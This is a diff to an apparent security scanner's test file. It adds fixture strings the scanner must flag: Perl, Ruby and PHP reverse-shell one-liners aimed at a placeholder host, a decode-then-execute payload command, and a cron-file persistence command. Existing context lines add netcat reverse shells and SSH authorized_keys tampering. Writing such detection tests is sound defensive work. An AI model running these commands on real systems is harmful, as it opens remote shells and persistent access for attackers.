@@ -294,7 +294,8 @@ def test_a_url_beside_a_shell_that_does_not_run_it_is_not_remote_code(text):
                                      "base64 --decode payload.b64 > run.sh\nchmod +x run.sh\n./run.sh",
                                      "xxd -r -p blob.hex > x && chmod +x x && ./x",
                                      "openssl enc -base64 -d -in p.b64 -out p.py; python3 p.py",
-                                     "base64 -di p.b64 > /tmp/p; nohup /tmp/p"])
+                                     "base64 -di p.b64 > /tmp/p; nohup /tmp/p",
+                                     "echo QQ== | base64 -d | tee /tmp/p; sh /tmp/p"])
 def test_a_payload_decoded_to_a_file_then_run_is_found(command):
     assert severity("scripts/a.sh", command + "\n", "SK631") == "high"
 
@@ -372,6 +373,9 @@ def test_an_environment_listing_alone_is_not_reported():
     "subprocess.call(['/bin/sh', '-i'])",
     "s.connect(('x.invalid', 1))\n[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/usr/local/bin/bash')",
     "nc 10.0.0.1 4242 -e /bin/ash",
+    "perl -e 'socket(S,2,1,6);connect(S,$a);open(STDIN,\">&S\");exec(q{/bin/sh -i})'",
+    "ruby -rsocket -e 'f=TCPSocket.open(\"x.invalid\",4444).to_i;exec sprintf(%q(/bin/sh -i <&%d >&%d),f,f)'",
+    "php -r '$s=fsockopen(\"x.invalid\",4444);`/bin/sh -i <&3 >&3 2>&3`;'",
 ])
 def test_reverse_shells_are_found(command):
     assert severity("scripts/run.sh", command + "\n", "SK634") == "high"
@@ -395,6 +399,7 @@ def test_reverse_shells_are_found(command):
     ('cat k >> "$HOME"/.ssh/authorized_keys', "medium"),
     ("cat k | tee -a -p ~/.ssh//authorized_keys", "medium"),
     ("crontab /tmp/jobs", "medium"),
+    ("sudo cp job /etc/cron.d/job", "medium"),
     ("echo 'alias -- sudo=/tmp/s' >> ~/.bash_aliases", "medium"),
     ("Set-ItemProperty HKCU:Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value c:\\u.exe", "medium"),
     ('echo "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5 k" >> ~/.ssh/authorized_keys', "high"),
@@ -404,7 +409,7 @@ def test_what_makes_code_run_later_or_lets_a_key_log_in_is_persistence(command, 
 
 
 @pytest.mark.parametrize("command", ["ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519", "cat ~/.ssh/authorized_keys",
-                                     "chmod 600 ~/.ssh/authorized_keys", "crontab -l", "crontab -e",
+                                     "chmod 600 ~/.ssh/authorized_keys", "crontab -l", "crontab -e", "cp a.txt /etc/crypt",
                                      "echo $PATH >> log.txt", "source ~/.bashrc", "grep alias ~/.bashrc",
                                      "Public keys live in <code>~/.ssh/authorized_keys</code>",
                                      "path => '/home/deploy/.ssh/authorized_keys',", "(p) => '/etc/cron.d/' + p"])
